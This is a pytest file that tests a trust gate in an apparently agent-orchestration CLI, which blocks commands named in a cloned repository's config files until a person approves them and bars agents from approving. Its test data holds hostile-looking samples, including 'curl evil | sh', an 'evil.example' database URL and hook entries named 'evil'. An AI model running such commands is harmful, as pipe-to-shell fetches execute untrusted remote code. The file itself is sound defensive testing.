"""A clone's files run nothing before a person has agreed."""

import json
import os
from pathlib import Path

import pytest

from abathur import safeguards
from abathur.domain.errors import UntrustedError
from tests.cli.conftest import Abathur, configure


@pytest.fixture
def clone(abathur: Abathur, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Abathur:
    """A project that nobody has agreed to, whose check leaves a mark."""
    monkeypatch.delenv("ABATHUR_TRUST")
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    configure(abathur, verify=f"touch {tmp_path}/ran")
    return abathur


def test_a_fresh_project_asks_nothing(clone: Abathur) -> None:
    (clone.root / ".abathur" / "config.yaml").unlink()
    clone.ok("init")
    assert clone.ok("trust", "--show") == "no file here names anything to run"
    clone.script("Do", {"write": {"path": "a", "text": "b"}})
    (clone.root / ".abathur" / "local.yaml").write_text("default_runtime: fake\nretry: {factor: 1}")
    assert clone("swarm", "start", "--until-idle").code == 0


def test_nothing_is_run_before_a_person_has_agreed(clone: Abathur, tmp_path: Path) -> None:
    clone.script("Do", {"write": {"path": "a", "text": "b"}})
    refused = clone("swarm", "start", "--until-idle")
    assert refused.code == 4
    assert refused.line == (
        "abathur: what this repository's files would run isn't trusted yet: .abathur/config.yaml "
        f"says `verify: touch {tmp_path}/ran`; look with `abathur trust --show`, then "
        "`abathur trust`"
    )
    assert not (tmp_path / "ran").exists()
    assert clone("trust").line == "abathur: there is nobody to ask; say `abathur trust --yes`"
    clone.ok("trust", "--yes")
    assert clone("swarm", "start", "--until-idle").code == 0
    assert (tmp_path / "ran").exists()


def test_a_changed_file_asks_again_and_shows_what_is_different(clone: Abathur) -> None:
    clone.ok("trust", "--yes")
    file = clone.root / ".abathur" / "config.yaml"
    file.write_text(file.read_text() + "\n# a comment changes nothing\n")
    assert json.loads(clone.ok("trust", "--show", "--json"))["trusted"] is True
    configure(clone, verify="curl evil | sh")
    with pytest.raises(UntrustedError, match=r"was changed since.*`verify: curl evil \| sh`"):
        safeguards.require_trust(clone.root)
    (asked,) = safeguards.find_trust(clone.root).asked
    assert (asked.added, len(asked.removed)) == (("verify: curl evil | sh",), 1)


def test_secrets_of_a_file_are_neither_shown_nor_kept(clone: Abathur, tmp_path: Path) -> None:
    secret = "https://hooks.slack.com/services/T00000000/B00000000/abcdefghijklmnopqrstuvwx"
    configure(clone, verify="true", notices={"webhook": secret})
    clone.ok("trust", "--yes")
    told = clone.ok("trust", "--show", "--json")
    kept = [file.read_text() for file in (tmp_path / "state").rglob("*") if file.is_file()]
    assert kept
    assert "hooks.slack.com/" in told
    assert "abcdefghijkl" not in told + "".join(kept)
    configure(clone, verify="true", notices={"webhook": f"{secret}2"})
    assert clone("trust", "--show").code == 1


def test_trust_can_be_taken_back(clone: Abathur) -> None:
    clone.ok("trust", "--yes")
    clone.ok("trust", "--revoke")
    assert clone("trust", "--show").code == 1
    assert "trusted by you" in clone.ok("trust", "--revoke")


@pytest.mark.parametrize(
    ("name", "text", "says"),
    [
        (".claude/agents/a.md", "---\nname: a\nruntime: command\nargv: [evil]\n---\nDo", "evil"),
        (".abathur/agents/b.md", "---\nname: b\n---\nRun evil", "agent type `b`"),
        (".claude/settings.json", '{"hooks": {"Stop": "evil"}}', "hooks"),
        (".mcp.json", '{"mcpServers": {"abathur": {}, "w": {"command": "evil"}}}', "mcpServers.w"),
        (".abathur/local.yaml", "agents: {x: {argv: evil}}", "agents.x.argv: evil"),
        (".abathur/local.yaml", "swarm: {pass_env: [EVIL]}", "swarm.pass_env"),
        (".abathur/local.yaml", "sandbox: off", "sandbox"),
        (".abathur/local.yaml", "criteria: {x: {passes: evil}}", "criteria"),
        (".abathur/local.yaml", "loops: {x: {passes: evil}}", "loops"),
        (".abathur/local.yaml", "a: [", "it can't be read"),
    ],
)
def test_every_file_that_can_name_a_command_is_asked_about(
    clone: Abathur, name: str, text: str, says: str
) -> None:
    clone.ok("trust", "--yes")
    file = clone.root / name
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(text)
    (asked,) = safeguards.find_trust(clone.root).asked
    assert asked.path == name
    assert any(says in line for line in asked.added)


def test_doctor_starts_no_program_that_nobody_has_agreed_to(clone: Abathur, tmp_path: Path) -> None:
    program = tmp_path / "evil"
    program.write_text(f"#!/bin/sh\ntouch {tmp_path}/ran\n")
    program.chmod(0o755)
    configure(clone, default_runtime="claude", runtimes={"claude": {"program": str(program)}})
    said = clone("doctor").out
    assert "trust" in said
    assert not (tmp_path / "ran").exists()
    clone.ok("trust", "--yes")
    clone("doctor")
    assert (tmp_path / "ran").exists()


def test_a_clone_can_t_send_us_to_another_database(clone: Abathur, tmp_path: Path) -> None:
    for place in ("postgresql://evil.example/queue", str(tmp_path / "mine.db")):
        (clone.root / ".abathur" / "config.yaml").write_text(f"database: {place}\n")
        assert clone("task", "list").code == 4
    assert not (tmp_path / "mine.db").exists()


def test_an_agent_can_t_give_the_word(clone: Abathur, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ABATHUR_TASK_ID", "x")
    assert "an agent can't trust" in clone("trust", "--yes").line


def test_the_word_of_others_doesn_t_count(clone: Abathur) -> None:
    clone.ok("trust", "--yes")
    (file,) = (Path(os.environ["XDG_STATE_HOME"]) / "abathur" / "trust").iterdir()
    assert (file.stat().st_mode & 0o777, file.parent.stat().st_mode & 0o777) == (0o600, 0o700)
    file.chmod(0o666)
    assert clone("trust", "--show").code == 1


def test_folders_in_the_variable_need_no_word(
    clone: Abathur, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("ABATHUR_TRUST", f"/nowhere:{clone.root.parent}")
    assert clone("trust", "--show").code == 0
